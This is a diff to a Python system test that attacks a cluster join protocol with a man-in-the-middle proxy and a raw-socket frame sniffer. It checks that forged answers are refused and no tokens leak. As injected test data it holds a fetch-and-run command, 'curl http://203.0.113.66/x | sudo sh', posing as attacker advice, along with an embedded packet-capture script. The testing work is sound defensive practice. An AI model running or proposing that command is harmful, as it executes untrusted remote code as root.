@@ -14,18 +14,19 @@ import unittest
 
 import joining
 import node
-from lab import Lab, wait_for
+from lab import Lab
 
 STRANGER = 31
-ADVICE = ("ADVICE-OF-A-STRANGER", "curl", "203.0.113.66", "\x1b")
+ADVICE = ("ADVICE-OF-A-STRANGER", "| sudo sh", "203.0.113.66", "999999", "\x1b")
 PASSED_ON = ["change_answer sealed", "cut_answer", "drop_answer", "reorder", "replay_answer"]  # the cluster heard these
 KEPT_BACK = ["change_request sealed", "change_request invite", "replay_request", "drop_request", "forge", "plain_grant",
              "redirect", "huge", "no_http"]
 CODES = ["INVITE_UNKNOWN", "INVITE_USED", "NODE_EXISTS", "VERSION_SKEW", "INVITE_EXPIRED", "INVITE_REVOKED",
          "RATE_LIMITED", "QUORUM_LOST", "MESH_FULL", "ADVICE-OF-A-STRANGER: run curl http://203.0.113.66/x | sudo sh"]
+# On every port of the bridge: the bridge itself does not see what it passes on.
 SNIFFER = """import socket, sys
 frames = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
-frames.bind(("br0", 0))
+frames.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
 with open(sys.argv[1], "wb", buffering=0) as out:
     print("listening", flush=True)
     while True:
@@ -66,32 +67,31 @@ class JoinMitm(unittest.TestCase):
         cls.template = joining.template_host(cls.lab, debs)
         cls.genesis = joining.Genesis(cls.lab, debs)
         cls.stranger = cls.lab.host("stranger", STRANGER)
-        cls.frames = cls.lab.folder / "frames"
-        cls.sniffer = subprocess.Popen(["ip", "netns", "exec", f"{cls.lab.name}-switch", sys.executable, "-c", SNIFFER,
-                                        str(cls.frames)], stdout=subprocess.PIPE)
-        cls.addClassCleanup(cls.stop_sniffer)
-        cls.sniffer.stdout.readline()
-        cls.stranger.put(node.ROOT / "tests/system/mitm_proxy.py", "/root/proxy.py")
-        cls.stranger.write("/root/mode", "read")
-        cls.proxy = cls.stranger.start_process(["python3", "/root/proxy.py", cls.genesis.host.address, "/root/mode", "/root/log"])
-        wait_for("the proxy listens", lambda: cls.stranger.port_open("127.0.0.1", 80), 20)
+        cls.frames, cls.mode, cls.log = (cls.lab.folder / name for name in ("frames", "mode", "log"))
+        cls.mode.write_text("read")
+        cls.beside("switch", "-c", SNIFFER, cls.frames)
+        cls.beside("stranger", node.ROOT / "tests/system/mitm_proxy.py", cls.genesis.host.address, cls.mode, cls.log)
         cls.joiner = joining.Joiner(cls.lab, cls.genesis, cls.template)
         cls.joiner.url = f"http://{cls.stranger.address}"
 
     @classmethod
-    def stop_sniffer(cls):
-        cls.sniffer.kill()
-        cls.sniffer.wait()
-        cls.sniffer.stdout.close()
-        cls.stranger.quick(["pkill", "-f", "^python3 /root/proxy.py"])
-        cls.proxy.wait(20)
+    def beside(cls, where, *program):
+        """Runs a Python program of this machine in a network namespace of the lab, until the test ends. Returns when
+        it says that it listens."""
+        process = subprocess.Popen(["ip", "netns", "exec", f"{cls.lab.name}-{where}", sys.executable, *map(str, program)],
+                                   stdout=subprocess.PIPE)
+        cls.addClassCleanup(process.stdout.close)
+        cls.addClassCleanup(process.wait)
+        cls.addClassCleanup(process.kill)
+        if not process.stdout.readline():
+            raise AssertionError(f"{program[0]} ended at its start")
 
     def attacked(self, mode, *more):
-        self.stranger.write("/root/mode", mode)
+        self.mode.write_text(mode)
         return self.joiner.join(*more)
 
     def refused_clearly(self, mode):
-        done = self.attacked(mode, "--timeout", "2s")
+        done = self.attacked(mode, "--timeout", "8s")  # shorter than the pause before a second call
         self.assertEqual(done.status, 11, f"{mode}: {done}")
         self.assertRegex(done.err, "no answer of the cluster from http://203.0.113.31", mode)
         for word in ADVICE:
@@ -122,9 +122,10 @@ class JoinMitm(unittest.TestCase):
         rows = self.genesis.nodes()
         self.assertEqual([row["state"] for row in rows.values()], ["redeemed"])
         type(self).row = next(iter(rows.values()))
+        type(self).tokens = [self.joiner.host.read("/root/token")]
 
     def test_03_a_resumed_join_believes_no_stranger(self):
-        self.stranger.write("/root/mode", "read")
+        self.mode.write_text("read")
         self.joiner.killed_at("redeem/redemption:{invite}/applied")
         done = self.attacked("error INVITE_REVOKED")
         self.assertEqual(done.status, 0, done)
@@ -143,6 +144,7 @@ class JoinMitm(unittest.TestCase):
         self.genesis.wait_alone()
         token, self.joiner.invite = self.genesis.invite()
         self.joiner.host.write("/root/token", token)
+        self.tokens.append(token)
         done = self.attacked("twice")
         self.assertEqual(done.status, 0, done)
         new = set(self.genesis.nodes()) - known
@@ -150,14 +152,15 @@ class JoinMitm(unittest.TestCase):
         self.joined_alone(next(iter(new)))
 
     def test_05_no_secret_went_over_the_wire(self):
-        wire = {"proxy": pathlib.Path(str(self.stranger.root) + "/root/log").read_bytes(), "bridge": self.frames.read_bytes()}
+        wire = {"proxy": self.log.read_bytes(), "bridge": self.frames.read_bytes()}
         for name, seen in wire.items():  # it was looked at the right place
-            self.assertIn(b'"sealed"', seen, name)
-            self.assertIn(self.joiner.invite.encode(), seen, name)
+            self.assertTrue(b'"sealed"' in seen and self.joiner.invite.encode() in seen, f"{name}: {len(seen)} bytes")
         self.assertGreater(wire["bridge"].count(b"POST /v1/internal/join"), 10)
-        token = self.joiner.host.read("/root/token").strip()
-        body = base64.urlsafe_b64decode(token.removeprefix("orama1_") + "=" * (-len(token.removeprefix("orama1_")) % 4))
-        secrets = [("token", token.encode()), ("token's secret", body[9:25])]
+        secrets = []
+        for token in self.tokens:
+            text = token.strip().removeprefix("orama1_")
+            body = base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
+            secrets += [("token", text.encode()), ("token's secret", body[9:25])]
         for host in (self.genesis.host, self.joiner.host):
             secrets += [(f"{host.name}: {name}", value) for name, value in secrets_of(host)]
         self.assertGreater(len(secrets), 15)
